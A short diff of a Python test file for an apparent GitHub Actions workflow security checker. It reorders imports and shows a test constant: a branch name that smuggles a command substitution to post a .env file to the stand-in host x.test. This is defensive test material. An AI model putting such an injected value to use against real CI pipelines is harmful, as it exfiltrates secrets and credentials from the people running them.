@@ -4,14 +4,14 @@ from __future__ import annotations
 
 import pytest
 
-from cujo_action.checks.workflow_contexts import (
+from cujo_action.schema import shell_hazards
+from cujo_action.workflow.contexts import (
     contexts,
     covers,
     secret_names,
     shell_context,
     stranger_fields,
 )
-from cujo_action.schema import shell_hazards
 
 HOSTILE_BRANCH = "$({curl,-d,@.env,x.test})"
 
